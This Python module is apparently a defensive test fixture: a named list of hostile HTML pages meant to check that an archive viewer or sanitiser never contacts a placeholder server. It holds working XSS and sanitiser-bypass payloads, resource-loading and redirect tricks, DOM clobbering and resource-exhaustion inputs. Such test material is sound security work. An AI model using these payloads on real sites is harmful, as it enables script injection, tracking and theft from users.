"""Pages that a site under study could serve to whoever looks at its archived copy, each with what it tries.

Written from how browsers and sanitisers have been attacked, before anything here was tried on them. `{to}` is the
address of a server that must hear nothing: a script that runs, a picture, a frame, a form, a jump all ask for it.
"""

RUN = "fetch('{to}/ran');location='{to}/ran'"

HOSTILE = {
    # Scripts, plain and in every place where one may stand.
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='{to}/a.js'></script>",
    "script of modules": "<script type=module>import '{to}/m.js'</script>",
    "script in capitals with a slash": f"<SCRIPT/x>{RUN}</SCRIPT>",
    "script in halves": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script without an end": f"<script>{RUN}",
    "script after an open comment": f"<!--><script>{RUN}</script>-->",
    "script in a comment that ends with a bang": f"<!-- --!><script>{RUN}</script>",
    "script in a title": f"<title></title><script>{RUN}</script></title>",
    "script in a textarea": f"<textarea></textarea><script>{RUN}</script></textarea>",
    "script in noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "script in a style": f"<style></style><script>{RUN}</script>",
    "script in xmp": f'<xmp></xmp><img src=x onerror="{RUN}"></xmp>',
    "script after plaintext": f"<plaintext><script>{RUN}</script>",
    "script in a template": f"<template><script>{RUN}</script></template>",
    "shadow root": f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
    # Handlers.
    "picture that fails": f'<img src=x onerror="{RUN}">',
    "picture without blanks": "<img/src='x'/onerror=fetch('{to}/ran')>",
    "body that loads": f'<body onload="{RUN}">',
    "field with the cursor": f'<input autofocus onfocus="{RUN}">',
    "details that open": f'<details open ontoggle="{RUN}">x</details>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "video that fails": f'<video><source onerror="{RUN}"></video>',
    "audio that fails": f'<audio src=x onerror="{RUN}">',
    "animation that begins": f"<style>@keyframes a{{}}</style><b style='animation:a 1s' onanimationstart=\"{RUN}\">x</b>",
    "wheel over everything": f"<div style='position:fixed;inset:0' onmouseover=\"{RUN}\">x</div>",
    "element with a name of its own": f'<x-y autofocus tabindex=0 onfocus="{RUN}">x</x-y>',
    "popover": f'<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{RUN}">x</div>',
    "handler behind a null": "<img src=x o\x00nerror=fetch('{to}/ran') onerror\x00=fetch('{to}/ran')>",
    "handler with a form feed": "<img\x0csrc=x\x0conerror=fetch('{to}/ran')>",
    # Addresses that are scripts.
    "link of a script": f'<a href="javascript:{RUN}" id=go>x</a>',
    "link of a script with a tab": "<a href=\"java\tscript:fetch('{to}/ran')\">x</a>",
    "link of a script in entities": "<a href=\"&#106;avascript&colon;fetch('{to}/ran')\">x</a>",
    "link of data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "button that goes": "<form><button formaction=\"javascript:fetch('{to}/ran')\">x</button></form>",
    "frame of a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame in a frame": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "object of data": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed of a script": f'<embed src="javascript:{RUN}">',
    # SVG and MathML.
    "svg that loads": f'<svg onload="{RUN}">',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates a link": "<svg><a><animate attributeName=href values=javascript:fetch('{to}/ran') />"
    "<text x=20 y=20>x</text></a></svg>",
    "svg that animates onbegin": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg that uses": '<svg><use href="{to}/a.svg#x"></use><image href="{to}/i.png"></image></svg>',
    "svg with html inside": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "math with a link": "<math><mtext href=\"javascript:fetch('{to}/ran')\">x</mtext></math>",
    # Markup that turns into another when it is read a second time.
    "style in math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "form in a form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">',
    "svg in a paragraph": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "noscript in a style": f'<noscript><style></noscript><img src=x onerror="{RUN}"></style>',
    "select with a style": f'<select><style></select><img src=x onerror="{RUN}"></style>',
    "table that throws out": f"<table><a href='x'><td><svg><style><img src=x onerror=\"{RUN}\"></table>",
    "annotation": f"<math><annotation-xml encoding='text/html'><style><img src=x onerror=\"{RUN}\"></style></math>",
    "cdata": f'<svg><![CDATA[><img src=x onerror="{RUN}">]]></svg>',
    "attribute that closes": f'<p title=\'"></iframe><img src=x onerror="{RUN}">\'>x</p>',
    "words that close the frame": f'"></iframe><img src=x onerror="{RUN}">',
    "entities that close the frame": f"&quot;&gt;&lt;/iframe&gt;&lt;img src=x onerror={RUN}&gt;",
    "entities twice": f"&amp;quot;&amp;gt;&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "title that closes": f"<title>&lt;/title>&lt;script>{RUN}&lt;/script></title><p>x",
    # What is loaded without a script.
    "picture": "<img src='{to}/i.png' srcset='{to}/j.png 2x'><picture><source srcset='{to}/k.png'></picture>",
    "style sheet": "<link rel=stylesheet href='{to}/a.css'><style>@import '{to}/b.css';</style>",
    "styles with pictures": "<p style=\"background:url('{to}/i.png')\">x<style>p{{background:url('{to}/j.png')}}</style>",
    "font": "<style>@font-face{{font-family:f;src:url('{to}/f.woff')}}p{{font-family:f}}</style><p>x",
    "links that load ahead": "<link rel=preload as=image href='{to}/p'><link rel=prefetch href='{to}/q'>"
    "<link rel=dns-prefetch href='{to}'><link rel=preconnect href='{to}'><link rel=icon href='{to}/favicon.ico'>",
    "manifest": "<link rel=manifest href='{to}/m.json'>",
    "video and its picture": "<video autoplay muted src='{to}/v.mp4' poster='{to}/p.png'></video><track src='{to}/t.vtt'>",
    "frames": "<iframe src='{to}/f'></iframe><frameset><frame src='{to}/g'></frameset><object data='{to}/o'></object>"
    "<embed src='{to}/e'><applet code=x codebase='{to}/'></applet><portal src='{to}/p'></portal>",
    "old attributes": "<body background='{to}/b.png'><table background='{to}/t.png'><tr><td>x</table>"
    "<input type=image src='{to}/i.png'>",
    "ping": "<a href='#x' ping='{to}/ping' id=go>x</a>",
    "base": "<base href='{to}/'><img src=i.png><a href=x>x</a>",
    # Jumps.
    "refresh": '<meta http-equiv=refresh content="0;url={to}/refresh">',
    "refresh in the body": "<p>x<meta http-equiv='Refresh' content='0; {to}/refresh'>",
    "refresh that is a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "policy of its own": f'<meta http-equiv=Content-Security-Policy content="script-src *"><img src=x onerror="{RUN}">',
    "link to the top": "<a href='{to}/top' target=_top>x</a><a href='{to}/blank' target=_blank rel=opener>x</a>",
    "base of targets": "<base target=_top><a href='{to}/top'>x</a>",
    "map": "<img usemap=#m width=200 height=200><map name=m><area shape=default href='{to}/map' target=_top></map>",
    "form": "<form action='{to}/form' target=_top method=post><input name=q><button>x</button></form>",
    "form elsewhere": "<form id=f action='{to}/form'></form><button form=f formaction='{to}/form2' autofocus>x</button>",
    "key of access": "<a href='{to}/key' accesskey=x target=_top>x</a>",
    # What breaks the one who looks, or deceives the reader.
    "names of the page": "<a id=words name=body>x</a><form name=document><input name=cookie></form><mark>not ours</mark>",
    "letters that turn": "\u202e<p>\u2066abc\u2069</p>",
    "over the frame": "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    "deep": "<div>" * 5_000 + "x",
    "deep in formats": "".join(f"<font color=c{n}>" for n in range(300)) + "<p>x" * 300,
    "tables without an end": "<table><tr><td>" * 1_000,
    "one long line": "x" * 1_500_000,
    "attributes without number": "<p " + " ".join(f"a{n}=1" for n in range(3_000)) + ">x",
    "selects in formats": "<b><i><select><option>" * 1_000,
}


def page(name: str, to: str) -> str:
    """Return the markup of one page that asks the server at `to`."""
    return HOSTILE[name].replace("{{", "{").replace("}}", "}").replace("{to}", to)
